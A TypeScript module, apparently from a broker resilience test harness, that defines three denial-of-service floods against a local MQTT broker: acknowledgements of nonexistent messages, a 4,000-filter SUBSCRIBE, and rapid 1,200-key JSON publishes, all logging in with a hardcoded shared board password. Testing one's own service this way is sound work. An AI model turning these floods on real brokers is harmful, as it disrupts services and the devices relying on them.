import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { generate } from 'mqtt-packet';
import { connectPacket } from '../../mqtt-wire.ts';
import { type Attack, type AttackOrder, firstOf, type Tally, wait } from '../attack.ts';

const boardPassword = 'cynoiotbundle';

/** Connects again whenever it is closed, and writes the bytes as fast as they are taken. */
async function flood(
  { order, espid, username }: { order: AttackOrder; espid: string; username: string },
  bytes: Buffer,
  { tally, signal, pauseMs = 0, packets }: { tally: Tally; signal: AbortSignal; pauseMs?: number; packets: number },
): Promise<void> {
  while (!signal.aborted) {
    const socket = connect({ host: '127.0.0.1', port: order.plainPort, localAddress: firstOf(order).address });
    socket.on('error', () => {});
    socket.resume();
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
    socket.write(connectPacket(espid, username, boardPassword));
    await Promise.race([once(socket, 'data'), once(socket, 'close')]);
    while (!socket.destroyed && !signal.aborted) {
      tally.sent += packets;
      if (!socket.write(bytes)) await drained(socket, signal);
      await wait(pauseMs);
    }
    if (!signal.aborted) tally.end('closed');
    socket.destroy();
    await wait(50);
  }
}

async function drained(socket: Socket, signal: AbortSignal): Promise<void> {
  const stop = new AbortController();
  const end = () => stop.abort();
  signal.addEventListener('abort', end);
  socket.once('close', end);
  await once(socket, 'drain', { signal: stop.signal }).catch(() => {});
  signal.removeEventListener('abort', end);
}

/** Acknowledgements of nothing, each of which has two bytes of content. */
const acknowledgements = Buffer.concat(
  Array.from({ length: 4_000 }, (_, index) =>
    generate({
      cmd: (['pubrel', 'pubrec', 'puback', 'pubcomp'] as const)[index % 4] ?? 'puback',
      messageId: 1 + index,
    }),
  ),
);

export const acknowledgementFlood: Attack = {
  what: 'PUBREL, PUBREC, PUBACK, PUBCOMP of nothing, by who knows an address',
  run: (order, tally, signal) =>
    flood({ order, espid: 'ESP32-D0WDQ6-100_dd000001', username: firstOf(order).email }, acknowledgements, {
      tally,
      signal,
      packets: 4_000,
    }),
};

const filters = Array.from({ length: 4_000 }, (_, index) => ({
  topic: String.fromCharCode(97 + (index % 26)),
  qos: 0 as const,
}));

export const subscribeFlood: Attack = {
  what: 'SUBSCRIBE with 4,000 filters, by who knows an address',
  run: (order, tally, signal) =>
    flood(
      { order, espid: 'ESP32-D0WDQ6-100_dd000002', username: firstOf(order).email },
      generate({ cmd: 'subscribe', messageId: 1, subscriptions: filters }),
      { tally, signal, packets: 1, pauseMs: 12 },
    ),
};

const wide = JSON.stringify(Object.fromEntries(Array.from({ length: 1_200 }, (_, index) => [`k${index}`, 1])));

export const wideJson: Attack = {
  what: 'JSON of 1,200 keys, 325 a second, by a board',
  run(order, tally, signal) {
    const { email, connectionKey } = firstOf(order);
    const espid = 'ESP32-D0WDQ6-100_dd000003';
    const topic = `/${espid}/data/update`;
    const bytes = generate({ cmd: 'publish', topic, payload: wide, qos: 0, retain: false, dup: false });
    return flood({ order, espid, username: `${email}/${connectionKey}` }, bytes, {
      tally,
      signal,
      packets: 1,
      pauseMs: 3,
    });
  },
};
